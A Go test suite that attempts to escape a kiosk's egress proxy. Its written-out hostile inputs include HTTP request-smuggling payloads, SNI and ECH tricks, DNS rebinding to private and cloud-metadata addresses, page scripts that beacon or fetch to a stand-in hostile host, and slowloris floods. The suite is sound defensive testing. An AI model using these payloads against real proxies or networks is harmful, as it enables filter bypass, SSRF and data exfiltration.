package escapes_test

import (
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"borne/kiosk"
	"borne/packaging/demo"
)

const (
	notTLS      = "refusal/not-tls"
	sniMissing  = "refusal/sni-missing"
	sniMismatch = "refusal/sni-mismatch"
	ech         = "refusal/ech"
	private     = "refusal/private-address"
	limit       = "refusal/limit"
	// noRoute is why nothing is counted where there is no network to ask.
	noRoute = "there is no route and nothing listens: the kernel of the session's own network answers, not the borne"
)

// networkCases are tried from where a browser that broke out of its own sandbox stands, or by the page's own scripts.
func networkCases() []attempt {
	return slices.Concat(requestCases(), helloCases(), nameCases(), routeCases(), scriptCases(), loadCases())
}

// requestCases are requests to the proxy that no browser sends.
func requestCases() []attempt {
	var cases []attempt
	for _, a := range []struct{ name, attempt, counts, request string }{
		{"connect-unlisted", "A tunnel to a host that is not listed", notListed, "CONNECT malin.borne.test:443 HTTP/1.1\r\nHost: malin.borne.test:443\r\n\r\n"},
		{"connect-port", "A tunnel to another port of a listed host", portRefused, "CONNECT www.piege.borne.test:22 HTTP/1.1\r\nHost: www.piege.borne.test:22\r\n\r\n"},
		{"connect-plain-port", "A tunnel to the port without TLS of a listed host", portRefused, "CONNECT www.piege.borne.test:80 HTTP/1.1\r\nHost: www.piege.borne.test:80\r\n\r\n"},
		{"connect-ip", "A tunnel to an address in figures", ipLiteral, "CONNECT 46.30.200.30:443 HTTP/1.1\r\nHost: 46.30.200.30:443\r\n\r\n"},
		{"connect-ip-hex", "A tunnel to the same in hexadecimal", ipLiteral, "CONNECT 0x2e1ec81e:443 HTTP/1.1\r\nHost: 0x2e1ec81e:443\r\n\r\n"},
		{"connect-loopback", "A tunnel to the borne's own loopback", ipLiteral, "CONNECT 127.0.0.1:631 HTTP/1.1\r\nHost: 127.0.0.1:631\r\n\r\n"},
		{"connect-userinfo", "A tunnel with user-info in its target", malformed, "CONNECT www.piege.borne.test@malin.borne.test:443 HTTP/1.1\r\nHost: malin.borne.test\r\n\r\n"},
		{"connect-url", "A tunnel to a whole address", malformed, "CONNECT https://www.piege.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\n\r\n"},
		{"connect-collector", "A tunnel to an audience measurer", "refusal/collector", "CONNECT stats.collecteur.borne.test:443 HTTP/1.1\r\nHost: stats.collecteur.borne.test:443\r\n\r\n"},
		{"host-mismatch", "A tunnel whose Host header names another host than its target", malformed, "CONNECT www.piege.borne.test:443 HTTP/1.1\r\nHost: malin.borne.test\r\n\r\n"},
		{"two-hosts", "A request with two Host headers", malformed, "GET http://www.piege.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\nHost: malin.borne.test\r\n\r\n"},
		{"smuggling-chunked", "A request with a length and chunks, to smuggle a second one", malformed, "POST http://www.piege.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
		{"smuggling-connect", "A tunnel with a body, to smuggle a request", malformed, "CONNECT www.piege.borne.test:443 HTTP/1.1\r\nHost: www.piege.borne.test:443\r\nContent-Length: 40\r\n\r\nGET http://malin.borne.test/ HTTP/1.1\r\n\r\n"},
		{"folded-header", "A header that is folded over two lines", malformed, "GET http://malin.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\nX: a\r\n b\r\n\r\n"},
		{"bare-newlines", "Lines that end without a carriage return", malformed, "GET http://malin.borne.test/ HTTP/1.1\nHost: www.piege.borne.test\n\r\n\r\n"},
		{"space-before-colon", "A space between a header's name and its colon", malformed, "GET http://malin.borne.test/ HTTP/1.1\r\nHost : malin.borne.test\r\n\r\n"},
		{"control-character", "A control character inside the target", malformed, "CONNECT www.piege.borne.test\x00.malin.borne.test:443 HTTP/1.1\r\nHost: www.piege.borne.test\r\n\r\n"},
		{"origin-form", "A request for a path alone", malformed, "GET / HTTP/1.1\r\nHost: malin.borne.test\r\n\r\n"},
		{"absolute-form", "A page without encryption asked of the proxy, the Host header being a listed one", notListed, "GET http://malin.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\n\r\n"},
		{"plain-file", "A file of a listed host without encryption", scheme, "GET http://fichiers.piege.borne.test/f.js HTTP/1.1\r\nHost: fichiers.piege.borne.test\r\n\r\n"},
		{"post-plain", "Words sent to a listed host without encryption", scheme, "POST http://www.piege.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\nContent-Length: 0\r\n\r\n"},
		{"http2-preface", "HTTP/2 without TLS", malformed, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{"header-size", "A request whose head is too large", limit, "GET http://www.piege.borne.test/ HTTP/1.1\r\nHost: www.piege.borne.test\r\nX: " + strings.Repeat("a", 40<<10) + "\r\n\r\n"},
	} {
		cases = append(cases, attempt{id: "network." + a.name, attempt: a.attempt, counts: a.counts,
			quick: strings.Contains(" connect-port connect-ip smuggling-chunked host-mismatch ", " "+a.name+" "),
			run:   func(p *trial) { p.asked(a.request) }})
	}
	return cases
}

// helloCases open a tunnel that is allowed, and then talk to somebody else in it.
func helloCases() []attempt {
	listed := hello(string(trapHost))
	var cases []attempt
	for _, a := range []struct {
		name, attempt, counts string
		first                 []byte
	}{
		{"sni-mismatch", "A tunnel to a listed host, whose TLS hello names another", sniMismatch, hello(string(evilHost))},
		{"sni-listed", "The same, the other one being listed too", sniMismatch, hello(string(secondHost))},
		{"sni-missing", "A hello that names nobody", sniMissing, hello("")},
		{"ech", "An encrypted hello (ECH) under a listed name", ech, withExtension(listed, 0xfe0d, make([]byte, 64))},
		{"ech-outer", "A hello that refers to an encrypted one", ech, withExtension(listed, 0xfd00, make([]byte, 4))},
		{"not-tls", "A shell's protocol in place of TLS", notTLS, []byte("SSH-2.0-OpenSSH_9.2\r\n")},
		{"http-in-tunnel", "A request without encryption inside the tunnel", notTLS, []byte("GET / HTTP/1.1\r\nHost: malin.borne.test\r\n\r\n")},
		{"split-hello", "The hello for another host, in records of three bytes", sniMismatch, inRecords(hello(string(evilHost)), 3)},
		{"large-hello", "A hello of a hundred kilobytes", notTLS, inRecords(withExtension(listed, 21, make([]byte, 60<<10)), 1<<14)},
		{"sslv2", "The hello of an older protocol", notTLS, []byte{0x80, 0x2e, 0x01, 0x00, 0x02, 0x00, 0x15, 0x00, 0x00, 0x00, 0x10}},
	} {
		cases = append(cases, attempt{id: "network." + a.name, attempt: a.attempt, counts: a.counts,
			quick: a.name == "sni-mismatch" || a.name == "ech" || a.name == "not-tls",
			run:   func(p *trial) { p.tunnelled(a.first) }})
	}
	return cases
}

// nameCases have the resolver answer a listed name with an address that is none of a site.
func nameCases() []attempt {
	var cases []attempt
	for _, a := range []struct{ name, attempt, address string }{
		{"private", "A listed name that leads to a private address", "192.168.1.1"},
		{"private-ten", "The same, in the other large private range", "10.1.2.3"},
		{"loopback", "The same, to the loopback", "127.0.0.1"},
		{"link-local", "The same, to a link-local address", "169.254.7.7"},
		{"metadata", "The same, to a cloud's metadata service", "169.254.169.254"},
		{"cgnat", "The same, to an address shared by a provider's customers", "100.64.0.1"},
		{"unspecified", "The same, to no address at all", "0.0.0.0"},
		{"multicast", "The same, to many", "224.0.0.251"},
		{"ipv6-loopback", "The same, to the IPv6 loopback", "::1"},
		{"ipv6-unique-local", "The same, to a private IPv6 address", "fd00::1"},
		{"ipv6-mapped", "The same, to a private address inside an IPv6 one", "::ffff:192.168.1.1"},
		{"ipv6-nat64", "The same, to a private address behind the NAT64 prefix", "64:ff9b::c0a8:101"},
	} {
		cases = append(cases, attempt{id: "network.dns-" + a.name, attempt: a.attempt, counts: private, quick: a.name == "metadata",
			run: func(p *trial) {
				p.named(inwardHost, netip.MustParseAddr(a.address))
				p.refusedTunnel(inwardHost)
			}})
	}
	return append(cases,
		attempt{id: "network.dns-own", attempt: "The same, to an address of the borne itself", counts: private, run: func(p *trial) {
			_, err := p.run(p.ctx, "ip", "address", "add", "46.30.200.77/32", "dev", "lo")
			p.must(err)
			defer func() {
				_, err := p.run(p.ctx, "ip", "address", "del", "46.30.200.77/32", "dev", "lo")
				p.must(err)
			}()
			p.named(inwardHost, netip.MustParseAddr("46.30.200.77"))
			// The borne's list of its own addresses is believed for two seconds.
			var status, reason string
			err = quickly(p.soon(8*time.Second), "a refusal", func() (bool, error) {
				status, reason = p.ask(connectTo(inwardHost))
				return strings.Contains(status, " 403 "), nil
			})
			if err != nil || reason != "private-address" {
				p.leak("the proxy answers %q %q", status, reason)
			}
		}},
		attempt{id: "network.rebinding", attempt: "A page whose name turns into an address inside between two requests",
			uncounted: "the proxy dials what it checked, for a minute, and asks again after that (kiosk/egress)", run: func(p *trial) {
				reached := func(when string) {
					if said := p.says("say(await within(5000, fetch('https://" + string(inwardHost) + "/x', {mode: 'no-cors', cache: 'no-store'}).then(() => 'reached')))"); said != "reached" {
						p.fault("the address that was checked does not answer %s: %s", when, said)
					}
				}
				p.named(inwardHost, trapAddress())
				reached("before")
				p.named(inwardHost, netip.MustParseAddr("127.0.0.1"))
				// A tunnel to the inside would find nobody at that port, so that who answers is the address that was checked.
				status, reason := p.ask(connectTo(inwardHost))
				if !strings.Contains(status, " 200 ") && reason != string(kiosk.ReasonPrivateAddress) {
					p.leak("the proxy answers %q %q", status, reason)
				}
				if strings.Contains(status, " 200 ") {
					reached("after")
				}
			}},
	)
}

// allNames is what the resolver knows on the whole stage.
func allNames() map[string]netip.Addr {
	names := trapNames()
	maps.Copy(names, demo.Resolver())
	return names
}

// named changes the resolver's answer for a name, for the time of this attempt.
func (p *trial) named(h demo.Host, a netip.Addr) {
	names, back := allNames(), allNames()
	names[string(h)] = a
	p.must(p.Host.SetHosts(p.ctx, names))
	p.after = append(p.after, func() { p.must(p.Host.SetHosts(p.ctx, back)) })
}

func connectTo(h demo.Host) string {
	return fmt.Sprintf("CONNECT %[1]s:443 HTTP/1.1\r\nHost: %[1]s:443\r\n\r\n", h)
}

// refusedTunnel asks for a tunnel until the resolver's new answer is there.
func (p *trial) refusedTunnel(h demo.Host) {
	var status, reason string
	err := quickly(p.soon(8*time.Second), "a refusal", func() (bool, error) {
		status, reason = p.ask(connectTo(h))
		return strings.Contains(status, " 403 "), nil
	})
	if want := strings.TrimPrefix(p.c.counts, "refusal/"); err != nil || reason != want {
		p.leak("the proxy answers %q %q", status, reason)
	}
}

// routeCases go around the proxy.
func routeCases() []attempt {
	var cases []attempt
	for _, a := range []struct{ name, attempt, network, address string }{
		{"direct-site", "A connection to a listed site without the proxy", "tcp", trapAddress().String() + ":443"},
		{"direct-dns", "A question to a public resolver over UDP", "udp", "9.9.9.9:53"},
		{"direct-dns-tcp", "The same over TCP", "tcp", "9.9.9.9:53"},
		{"dns-over-tls", "The same over TLS", "tcp", "9.9.9.9:853"},
		{"local-resolver", "A question to the borne's own resolver", "tcp", "127.0.0.53:53"},
		{"quic", "QUIC to a listed site", "udp", trapAddress().String() + ":443"},
		{"sshd", "The borne's sshd", "tcp", "127.0.0.1:22"},
		{"cups", "The borne's printing service", "tcp", "127.0.0.1:631"},
		{"postgresql", "A database on the borne", "tcp", "127.0.0.1:5432"},
		{"vnc", "A remote screen on the borne", "tcp", "127.0.0.1:5900"},
		{"loopback-ipv6", "The IPv6 loopback", "tcp", "[::1]:22"},
		{"x11-tcp", "The X server over TCP", "tcp", "127.0.0.1:6000"},
	} {
		cases = append(cases, attempt{id: "network." + a.name, attempt: a.attempt, uncounted: noRoute, quick: a.name == "quic",
			run: func(p *trial) { p.unreachable(a.network, a.address) }})
	}
	return append(cases,
		attempt{id: "network.system-bus", attempt: "The system bus, by its socket", uncounted: "the socket is not there to be seen", run: func(p *trial) {
			said, err := p.inSession(p.ctx, "sh", "-c", "ls /run/dbus/system_bus_socket /var/run/dbus/system_bus_socket /run/systemd/private /run/user 2>&1; true")
			p.must(err)
			if strings.Contains(strings.ReplaceAll(said, "cannot access", ""), "system_bus_socket\n/") {
				p.leak("there is %s", said)
			}
			if said, err := p.inSession(p.ctx, "busctl", "--timeout=2", "list"); err == nil {
				p.leak("the bus answers %d bytes", len(said))
			}
		}},
		attempt{id: "network.other-processes", attempt: "The borne's other processes, seen in /proc", uncounted: "they are not there to be seen", run: func(p *trial) {
			said, err := p.inSession(p.ctx, "sh", "-c", "cat /proc/[0-9]*/comm 2>/dev/null; true")
			p.must(err)
			for _, name := range []string{"borned", "systemd", "borne-shell", "Xvnc"} {
				if slices.Contains(strings.Fields(said), name) {
					p.leak("%s is to be seen", name)
				}
			}
		}},
		attempt{id: "network.interfaces", attempt: "Another network interface than the loopback", uncounted: "there is none", run: func(p *trial) {
			var found []net.Interface
			p.must(p.standing(p.ctx, func() (err error) { found, err = net.Interfaces(); return err }))
			if len(found) != 1 {
				p.leak("%d interfaces", len(found))
			}
		}},
	)
}

// unreachable fails if anybody answers, beyond the session's own network.
func (p *trial) unreachable(network, address string) {
	c, err := p.dialInside(network, address)
	if err != nil {
		p.note("%s", err.Error()[strings.LastIndex(err.Error(), ": ")+2:])
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	_, _ = c.Write([]byte("hello"))
	if n, _ := c.Read(make([]byte, 512)); network == "tcp" || n > 0 {
		p.leak("something answers at %s", address)
	}
}

// scriptCases are what a page's own scripts ask for without leaving the page.
func scriptCases() []attempt {
	var cases []attempt
	for _, a := range []struct{ name, attempt, script string }{
		{"fetch", "A request by script to an unlisted host", "await within(4000, fetch('https://malin.borne.test/', {mode: 'no-cors'}))"},
		{"beacon", "A beacon sent to an unlisted host", "navigator.sendBeacon('https://malin.borne.test/', 'x'); await wait(500); throw new Error('sent blindly')"},
		{"image", "An image of an unlisted host", "await within(4000, new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('no image')); i.src = 'https://malin.borne.test/i.png' }))"},
		{"websocket", "A WebSocket to an unlisted host", "await within(4000, new Promise((ok, no) => { const w = new WebSocket('wss://malin.borne.test/'); w.onopen = ok; w.onerror = () => no(new Error('no socket')) }))"},
		{"event-source", "A stream of events of an unlisted host", "await within(4000, new Promise((ok, no) => { const s = new EventSource('https://malin.borne.test/'); s.onopen = ok; s.onerror = () => no(new Error('no stream')) }))"},
		{"worker", "A worker that asks an unlisted host", "await within(4000, new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('https://malin.borne.test/', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))\"]))); w.onmessage = m => m.data ? ok() : no(new Error('no answer')) }))"},
		{"prefetch", "A page of an unlisted host fetched ahead", "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'https://malin.borne.test/'; document.head.append(l); await wait(700); throw new Error('fetched blindly')"},
		{"doh", "A name asked of a resolver over HTTPS", "await within(4000, fetch('https://dns.google/resolve?name=malin.borne.test', {mode: 'no-cors'}))"},
		{"central-office", "The central office's console", "await within(4000, fetch('https://central.borne.test/', {mode: 'no-cors'}))"},
		{"font", "A font of an unlisted host", "await within(4000, new FontFace('f', 'url(https://malin.borne.test/f.woff2)').load())"},
	} {
		cases = append(cases, attempt{id: "network." + a.name, attempt: a.attempt, counts: notListed, quick: a.name == "websocket", run: func(p *trial) {
			refusal := "refused: "
			if a.name == "worker" { // one that does not run proves nothing
				refusal += "no answer"
			}
			p.refuses(p.says("try { "+a.script+"; say('reached') } catch (e) { say('refused: ' + e.message) }"), refusal)
		}})
	}
	cases = append(cases, attempt{id: "network.worker-file", attempt: "A worker of the site that asks an unlisted host", counts: notListed, run: func(p *trial) {
		p.refuses(p.says("try { await within(6000, new Promise((ok, no) => { const w = new Worker('/w.js'); w.onmessage = m => m.data == 2 ? ok() : m.data == 0 ? no(new Error('no answer')) : 0 })); say('reached') } catch (e) { say('refused: ' + e.message) }"), "refused: no answer")
	}})
	return append(cases,
		attempt{id: "network.web-transport", attempt: "WebTransport, which is QUIC, to a listed host", uncounted: "it never reaches the proxy: there is no UDP", run: func(p *trial) {
			p.refuses(p.says("try { const t = new WebTransport('https://www.piege.borne.test/'); await within(3000, t.ready); say('reached') } catch (e) { say('refused: ' + e.message) }"), "refused: ")
		}},
		attempt{id: "network.webrtc", attempt: "WebRTC over UDP to a listed site's address", uncounted: "it never reaches the proxy: there is no UDP", run: func(p *trial) {
			said := p.says(`const found = []; const c = new RTCPeerConnection({iceServers: [{urls: 'stun:46.30.200.30:3478'}]});
				c.onicecandidate = e => { if (e.candidate) found.push(e.candidate.candidate) }; c.createDataChannel('x');
				await c.setLocalDescription(await c.createOffer()); await wait(1500); say('candidates ' + found.length + ' ' + found.join(' '))`)
			if strings.Contains(said, "srflx") || strings.Contains(said, "46.30") || strings.Contains(said, " udp ") {
				p.leak("the page found %q", said)
			}
			p.note("the page was told: %s", said)
		}},
		attempt{id: "network.local-proxy", attempt: "The proxy's own address asked by a page", counts: ipLiteral, run: func(p *trial) {
			p.refuses(p.says("try { await within(4000, fetch('https://127.0.0.1:3128/', {mode: 'no-cors'})); say('reached') } catch (e) { say('refused: ' + e.message) }"), "refused: ")
		}},
	)
}

// loadCases take all that there is of the proxy. A page must still be answered afterwards.
func loadCases() []attempt {
	return []attempt{
		{id: "network.slow-loris", attempt: "Requests that come one byte at a time and never end", counts: limit, run: func(p *trial) {
			var lorises sync.WaitGroup
			var answered atomic.Int32
			for range 20 {
				c := p.proxy()
				lorises.Go(func() {
					defer c.Close()
					for range 200 {
						if _, err := c.Write([]byte("C")); err != nil {
							return
						}
						_ = c.SetReadDeadline(time.Now().Add(time.Second))
						n, err := c.Read(make([]byte, 64))
						if n > 0 || err == io.EOF {
							answered.Add(1)
							return
						}
					}
				})
			}
			lorises.Wait()
			if answered.Load() == 0 {
				p.leak("nobody ended them")
			}
		}},
		{id: "network.thousand-tunnels", attempt: "A thousand tunnels at once", counts: limit, run: func(p *trial) {
			var open []net.Conn
			p.must(p.standing(p.ctx, func() error {
				for range 1000 {
					c, err := net.DialTimeout("tcp", proxyAddress, time.Second)
					if err != nil {
						break
					}
					open = append(open, c)
				}
				return nil
			}))
			var closed atomic.Int32
			var readers sync.WaitGroup
			for _, c := range open {
				readers.Go(func() {
					if n, err := c.Read(make([]byte, 64)); (n > 0 || err != nil) && !errors.Is(err, net.ErrClosed) {
						closed.Add(1)
					}
				})
			}
			err := quickly(p.soon(5*time.Second), "an end to it", func() (bool, error) { return closed.Load() >= 500, nil })
			refused := closed.Load()
			for _, c := range open {
				c.Close()
			}
			readers.Wait()
			p.note("%d of %d were closed at once", refused, len(open))
			if err != nil {
				p.leak("%d tunnels stay open", len(open)-int(refused))
			}
		}},
		{id: "network.proxy-killed", attempt: "The proxy killed in the middle of a visit", alone: true, uncounted: "nothing answers any more, or a fresh proxy that denies: it fails closed", run: proxyKilled},
	}
}

// proxyKilled kills what listens in the session's network.
func proxyKilled(p *trial) {
	p.must(p.open(p.ctx))
	_, err := p.shell(p.ctx, "systemctl kill --signal=KILL borne-egress.service")
	if err != nil {
		p.note("the proxy is no process of its own: borned was killed in its place")
		_, err = p.shell(p.ctx, "kill -9 $(systemctl show -P MainPID borned.service)")
	}
	p.must(err)
	err = p.standing(p.ctx, func() error {
		c, err := net.DialTimeout("tcp", trapAddress().String()+":443", 2*time.Second)
		if err == nil {
			c.Close()
			p.leak("a way out without the proxy")
		}
		c, err = net.DialTimeout("tcp", proxyAddress, 2*time.Second)
		if err != nil {
			return nil
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		_, _ = fmt.Fprint(c, connectTo(evilHost))
		if status, _ := head(c); strings.Contains(status, " 200 ") {
			p.leak("a proxy that lets everything through")
		}
		return nil
	})
	if err != nil {
		p.note("the session was gone before its network could be looked at: %v", err)
	}
	p.usableAlone()
}
